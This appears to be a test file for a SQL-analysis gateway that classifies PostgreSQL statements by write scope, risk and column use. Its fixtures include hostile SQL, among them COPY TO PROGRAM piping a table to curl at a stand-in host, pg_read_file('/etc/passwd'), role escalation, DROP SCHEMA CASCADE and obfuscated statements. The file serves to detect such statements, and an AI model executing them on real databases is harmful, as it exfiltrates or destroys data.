/** Facts about SQL over PostgreSQL's own parser. What a row here gets wrong, an attacker gets through. */
import {
  type Doubt,
  readSql,
  type Scope,
  type SqlFacts,
  type SqlReading,
  type SqlRisk,
  templateOf,
} from '@sealrail/facts';
import fc from 'fast-check';
import { beforeAll, describe, expect, test } from 'vitest';
import { openParser } from '../../packages/server/src/gateway/postgres/parse.ts';
import { memoryCatalog } from './catalog.ts';

let parse: Awaited<ReturnType<typeof openParser>>;
beforeAll(async () => {
  parse = await openParser(18);
});
const read = (text: string, userRoutines: string[] = []): SqlReading =>
  readSql({ text, parse, catalog: memoryCatalog(userRoutines) });
const facts = (text: string): SqlFacts => read(text).facts;
const uses = (text: string) =>
  facts(text).uses.map(
    ({ verb, resource }) => `${verb} ${'name' in resource ? resource.name : resource.kind}`,
  );
const use = (text: string, wanted: string) =>
  facts(text).uses.find(
    ({ verb, resource }) =>
      `${verb} ${'name' in resource ? resource.name : resource.kind}` === wanted,
  );

describe('scope of a write', () => {
  const cases: [Scope, string][] = [
    ['none', 'DELETE FROM users'],
    ['none', 'UPDATE users SET city = $1'],
    ['none', 'DELETE FROM users -- WHERE id = 1'],
    ['none', 'WITH d AS (DELETE FROM users RETURNING id) SELECT count(*) FROM d'],
    ['always-true', 'DELETE FROM users WHERE true'],
    ['always-true', 'DELETE FROM users WHERE 1 = 1'],
    ['always-true', 'DELETE FROM users WHERE id = id'],
    ['always-true', 'DELETE FROM users WHERE id = 5 OR 1 = 1'],
    ['always-true', "DELETE FROM users WHERE 'a' = 'a' AND 1 < 2"],
    ['always-true', 'DELETE FROM users WHERE NOT false'],
    ['always-true', 'DELETE FROM users WHERE id IS NOT NULL'],
    ['always-true', 'DELETE FROM users WHERE id = 1 OR id <> 1'],
    ['always-true', 'DELETE FROM users WHERE id > 5 OR id <= 5'],
    ['always-true', "DELETE FROM users WHERE name LIKE '%'"],
    ['always-true', 'DELETE FROM users WHERE $1'],
    ['always-true', 'DELETE FROM users WHERE random() < 2'],
    ['always-true', "DELETE FROM users WHERE length('a') = 1"],
    ['always-true', 'DELETE FROM users WHERE id IN (id)'],
    ['always-true', 'DELETE FROM users WHERE id = 1 OR NOT id = 1'],
    ['always-true', 'DELETE FROM users WHERE id BETWEEN id AND id'],
    ['loose', 'DELETE FROM users WHERE id > 0'],
    ['loose', 'DELETE FROM users WHERE id <> 5'],
    ['loose', 'DELETE FROM users WHERE id % 1 = 0'],
    ['loose', 'DELETE FROM users WHERE id NOT IN (1, 2)'],
    ['loose', "DELETE FROM users WHERE name LIKE '%a%'"],
    ['loose', 'DELETE FROM users WHERE id IN (SELECT id FROM users)'],
    ['always-true', 'DELETE FROM users WHERE EXISTS (SELECT 1 FROM notes)'],
    ['loose', 'DELETE FROM users WHERE id BETWEEN 0 AND 99999999'],
    ['loose', 'DELETE FROM users USING notes WHERE users.id = notes.id'],
    ['loose', "DELETE FROM users WHERE coalesce(city, 'x') = 'x'"],
    ['loose', 'UPDATE users SET city = $1 WHERE length(name) >= 0'],
    ['range', "DELETE FROM users WHERE city = 'Riverton'"],
    ['range', "DELETE FROM users WHERE lower(name) = 'bob'"],
    ['range', 'DELETE FROM users WHERE id BETWEEN 1 AND 10'],
    ['range', "DELETE FROM users WHERE name LIKE 'Al%'"],
    ['range', 'DELETE FROM order_items WHERE order_id = 1'],
    ['range', 'DELETE FROM order_items WHERE active'],
    ['range', 'DELETE FROM users WHERE id IN (SELECT id FROM users LIMIT 10)'],
    ['key', 'DELETE FROM users WHERE id = 7'],
    ['key', 'UPDATE users SET city = $2 WHERE id = $1'],
    ['key', 'DELETE FROM users WHERE id IN (1, 2, 3)'],
    ['key', "UPDATE users u SET city = 'x' WHERE u.id = 1 AND u.name = 'a'"],
    ['key', 'DELETE FROM order_items WHERE order_id = 1 AND line = 2'],
    ['key', 'DELETE FROM users WHERE id = 1 OR id = 2'],
    ['key', 'DELETE FROM users WHERE false'],
    [
      'key',
      "INSERT INTO users VALUES (1,'a','b','c','d') ON CONFLICT (id) DO UPDATE SET name = excluded.name",
    ],
    ['no-write', 'SELECT * FROM users'],
    ['no-write', "INSERT INTO notes (body) VALUES ('x')"],
    ['none', 'DELETE FROM users WHERE id = 1; DELETE FROM notes'],
    ['always-true', 'EXPLAIN ANALYZE DELETE FROM users WHERE true'],
    [
      'none',
      'MERGE INTO users u USING notes n ON u.id = n.id WHEN NOT MATCHED BY SOURCE THEN DELETE',
    ],
    [
      'loose',
      "MERGE INTO users u USING notes n ON u.id = n.id WHEN MATCHED THEN UPDATE SET city = 'x'",
    ],
  ];
  test.each(cases)('%s: %s', (scope, text) => {
    expect(facts(text).scope).toBe(scope);
    expect(facts(text).doubts).toEqual([]);
  });
});

describe('what a statement does', () => {
  const cases: [string, string[]][] = [
    ['SELECT 1', ['select database']],
    ['SELECT * FROM users', ['select users']],
    ['TABLE users', ['select users']],
    [
      'WITH x AS (DELETE FROM users RETURNING id) SELECT * FROM notes',
      ['delete users', 'select users', 'select notes'],
    ],
    [
      'COPY (DELETE FROM users RETURNING *) TO STDOUT',
      ['delete users', 'select users', 'copy database'],
    ],
    ['COPY users TO STDOUT', ['copy users', 'select users']],
    ['COPY users FROM STDIN', ['copy users', 'insert users']],
    ['INSERT INTO notes (body) SELECT ssn FROM users', ['insert notes', 'select users']],
    ['PREPARE p AS DELETE FROM users', ['session database', 'delete users']],
    ['DECLARE c CURSOR FOR SELECT * FROM users', ['session database', 'select users']],
    ['CREATE TABLE x AS SELECT * FROM users', ['select users', 'ddl schema']],
    ['CREATE VIEW v AS SELECT ssn FROM users', ['select users', 'ddl schema']],
    ['TRUNCATE users, notes', ['truncate users', 'truncate notes']],
    ['DROP TABLE users', ['ddl users']],
    ['DROP/**/TABLE public.users', ['ddl users']],
    ['ALTER TABLE users DISABLE TRIGGER ALL', ['ddl users']],
    ['GRANT ALL ON users TO app', ['grant users']],
    ['BEGIN', ['session database']],
    ['VACUUM FULL users', ['maintain users']],
    ['SELECT * FROM people', ['select people', 'select users']],
    ['DELETE FROM U&"\\0075sers"', ['delete users']],
    ['SELECT (SELECT ssn FROM users LIMIT 1)', ['select users']],
    ['EXPLAIN SELECT * FROM users', ['select users']],
    [
      'SELECT count(*) FROM users; COMMIT; DROP TABLE users',
      ['select users', 'session database', 'ddl users'],
    ],
  ];
  test.each(cases)('%s', (text, expected) => {
    expect(uses(text)).toEqual(expected);
    expect(facts(text).doubts).toEqual([]);
  });

  const risks: [SqlRisk, string][] = [
    ['program', "COPY users TO PROGRAM 'curl -d @- http://x/'"],
    ['file', "COPY users TO '/tmp/x'"],
    ['file', "SELECT pg_read_file('/etc/passwd')"],
    ['file', 'SELECT * FROM pg_ls_dir($1)'],
    ['sleep', 'SELECT CASE WHEN id = 1 THEN pg_sleep(5) END FROM users'],
    ['backend-control', 'SELECT pg_terminate_backend(1)'],
    ['backend-control', 'SELECT query FROM pg_stat_activity'],
    ['large-object', 'SELECT lo_unlink(16400)'],
    ['lock', 'BEGIN; LOCK TABLE users IN ACCESS EXCLUSIVE MODE'],
    ['lock', 'SELECT pg_advisory_lock(1)'],
    ['role', 'SET ROLE admin'],
    ['role', "SELECT set_config('role', 'admin', false)"],
    ['role', 'SET SESSION AUTHORIZATION admin'],
    ['role', 'GRANT app TO admin'],
    ['role', 'CREATE ROLE x'],
    ['disable-trigger', 'ALTER TABLE users DISABLE TRIGGER ALL'],
    ['disable-trigger', 'SET session_replication_role = replica'],
    ['setting', 'SET standard_conforming_strings = off'],
    ['setting', "SET client_encoding = 'SJIS'"],
    ['setting', 'ALTER SYSTEM SET fsync = off'],
    ['drop', 'DROP SCHEMA public CASCADE'],
    ['drop', 'ALTER TABLE users DROP COLUMN ssn'],
    ['truncate', 'TRUNCATE users'],
    ['rewrite-table', 'VACUUM (FULL) users'],
    ['network', 'SELECT * FROM remote'],
    ['network', "SELECT dblink_exec('dbname=prod', 'DROP TABLE users')"],
    ['program', 'CREATE EXTENSION plpython3u'],
    ['replication', "SELECT pg_create_logical_replication_slot('a', 'b')"],
    ['notify', "NOTIFY x, 'y'"],
    [
      'definer-rights',
      "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'",
    ],
  ];
  test.each(risks)('risk %s: %s', (risk, text) => expect(facts(text).risks).toContain(risk));

  const doubts: [Doubt, string][] = [
    ['syntax', 'SELEC 1'],
    ['syntax', '\uff24\uff32\uff2f\uff30 TABLE users'],
    ['opaque-code', "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$"],
    ['unknown-routine', 'CALL purge_everything()'],
    ['unknown-routine', 'SELECT purge()'],
    ['unknown-routine', 'SELECT public.lower(name) FROM users'],
    ['unknown-routine', 'SELECT name OPERATOR(public.=) name FROM users'],
    ['unknown-routine', "SELECT 'x'::public.mood"],
    ['unresolved-name', 'SELECT * FROM nowhere'],
    ['unresolved-name', 'SELECT nothing FROM users'],
    ['unresolved-name', 'UPDATE users SET nothing = 1 WHERE id = 1'],
    ['ambiguous', 'SELECT u.row_to_json FROM users u'],
    ['dynamic', "SELECT query_to_xml('DELETE FROM users', true, true, '')"],
    ['dynamic', "SELECT set_config('ro' || 'le', 'admin', false)"],
    ['opaque-code', "PREPARE TRANSACTION 'x'"],
    ['search-path', 'SET search_path = x; SELECT * FROM users'],
    ['search-path', 'CREATE TEMP VIEW notes2 AS SELECT 1; SELECT * FROM notes'],
    ['too-large', `SELECT '${'x'.repeat(300_000)}'`],
    ['too-deep', `SELECT ${'NOT '.repeat(500)}true`],
    ['encoding', 'SELECT \u0000'],
  ];
  test.each(doubts)('doubt %s: %.60s', (doubt, text) =>
    expect(facts(text).doubts).toContain(doubt),
  );

  test('a user function of a built-in name makes the call ambiguous, unless it is qualified', () => {
    expect(read('SELECT lower(name) FROM users', ['lower']).facts.doubts).toEqual(['ambiguous']);
    expect(read('SELECT pg_catalog.lower(name) FROM users', ['lower']).facts.doubts).toEqual([]);
    expect(read('DELETE FROM users WHERE name = $1', ['=']).facts.doubts).toEqual(['ambiguous']);
  });
});

describe('where a column goes', () => {
  const cases: [string, string, string[], string[]][] = [
    ['SELECT ssn FROM users', 'select users', ['ssn'], []],
    ['SELECT u.s FROM users AS u(id, s)', 'select users', ['ssn'], []],
    ['SELECT s FROM (SELECT ssn AS s FROM users) x', 'select users', ['ssn'], []],
    ['WITH x AS (SELECT ssn s FROM users) SELECT s FROM x', 'select users', ['ssn'], []],
    ['SELECT name FROM users WHERE ssn = $1', 'select users', ['name'], ['ssn']],
    ['SELECT name FROM users ORDER BY ssn', 'select users', ['name'], ['ssn']],
    ['SELECT upper(ssn) FROM users', 'select users', [], ['ssn']],
    ['SELECT ssn::varchar FROM users', 'select users', [], ['ssn']],
    ["SELECT ssn || 'x' FROM users", 'select users', [], ['ssn']],
    ['SELECT ssn FROM users UNION SELECT body FROM notes', 'select users', [], ['ssn']],
    [
      'SELECT id FROM users GROUP BY id HAVING max(ssn) > $1',
      'select users',
      ['id'],
      ['id', 'ssn'],
    ],
    [
      'SELECT row_to_json(u) FROM users u',
      'select users',
      [],
      ['city', 'email', 'id', 'name', 'ssn'],
    ],
    ['SELECT u FROM users u', 'select users', [], ['city', 'email', 'id', 'name', 'ssn']],
    ['INSERT INTO notes (body) SELECT ssn FROM users', 'select users', [], ['ssn']],
    ['UPDATE users SET name = ssn WHERE id = 1', 'select users', [], ['id', 'ssn']],
    ['DELETE FROM users WHERE id = 1 RETURNING ssn', 'select users', ['ssn'], ['id']],
    ['COPY (SELECT ssn FROM users) TO STDOUT', 'select users', [], ['ssn']],
    [
      'SELECT n.id FROM notes n, LATERAL (SELECT ssn FROM users WHERE users.id = n.id) x',
      'select users',
      [],
      ['id'],
    ],
    [
      'SELECT name FROM users WHERE id IN (SELECT id FROM notes WHERE body = users.ssn)',
      'select users',
      ['name'],
      ['id', 'ssn'],
    ],
  ];
  test.each(cases)('%s', (text, wanted, shown, derived) => {
    expect(facts(text).doubts).toEqual([]);
    expect(use(text, wanted)).toMatchObject({ shown, derived });
  });

  test('a star shows every column, and says so', () => {
    expect(use('SELECT * FROM users', 'select users')).toMatchObject({
      shown: ['city', 'email', 'id', 'name', 'ssn'],
      allColumns: true,
    });
  });

  test('assignments are written, in every place where a row changes', () => {
    expect(
      use("UPDATE users SET city = 'x', name = 'y' WHERE id = 1", 'update users')?.written,
    ).toEqual(['city', 'name']);
    expect(use("INSERT INTO notes (body) VALUES ('x')", 'insert notes')?.written).toEqual(['body']);
  });
});

describe('templates', () => {
  const cases: [string, string][] = [
    [
      "SELECT 'a', E'b\\'c', $tag$d'e$tag$, 12.5e3, X'1F', U&'\\0061'",
      'SELECT $1, $2, $3, $4, $5, $6',
    ],
    ['SELECT $2, 7 -- comment', 'SELECT $2, $3'],
    ['SELECT/* a /* b */ c */1', 'SELECT $1'],
    ["SELECT 'a'\n  'b'", 'SELECT $1'],
    ['SELECT "a 1", t1 FROM x', 'SELECT "a 1", t1 FROM x'],
    ["CREATE USER x PASSWORD 'hunter2'", 'CREATE USER x PASSWORD $1'],
    ["SELECT 'never closed", 'SELECT $1'],
  ];
  test.each(cases)('%s', (text, template) => expect(templateOf(text).template).toBe(template));

  test('no literal survives in a template', () => {
    const secret = fc.stringMatching(/^[a-z]{8,20}$/);
    fc.assert(
      fc.property(
        fc.array(fc.tuple(secret, fc.integer({ min: 0, max: 5 })), { minLength: 1, maxLength: 6 }),
        (values) => {
          const spelled = values.map(
            ([value, kind]) =>
              [
                `'${value}'`,
                `E'${value}\\''`,
                `$$${value}$$`,
                `$q$${value}'$q$`,
                `/* ${value} */ 1`,
                `'it''s ${value}'`,
              ][kind] ?? '',
          );
          const { template } = templateOf(`SELECT ${spelled.join(', ')} -- ${values[0]?.[0]}`);
          for (const [value] of values) expect(template).not.toContain(value);
        },
      ),
    );
  });
});

describe('the parser', () => {
  test('gives the message and the position, in characters, that PostgreSQL gives', () => {
    expect(read("SELECT é FROM 'x")).toMatchObject({
      kind: 'syntax-error',
      message: expect.stringMatching(/unterminated/),
      position: 15,
    });
  });

  test('survives a hundred texts that break it', async () => {
    for (let i = 0; i < 100; i++) facts(`SELECT ${'1+'.repeat(20_000)}1`);
    await expect.poll(() => facts('SELECT 1').doubts).toEqual([]);
    for (let i = 0; i < 100; i++) {
      facts(`SELECT ${'NOT '.repeat(30_000)}true`);
      await new Promise((resolve) => setTimeout(resolve, 1));
    }
    await expect.poll(() => facts('SELECT 1').doubts).toEqual([]);
  });

  test('an empty text and a text of comments are no statement', () => {
    for (const text of ['', '  ', '-- nothing', '/* nothing */;']) {
      expect(facts(text)).toMatchObject({ statements: 0, doubts: [] });
    }
  });
});
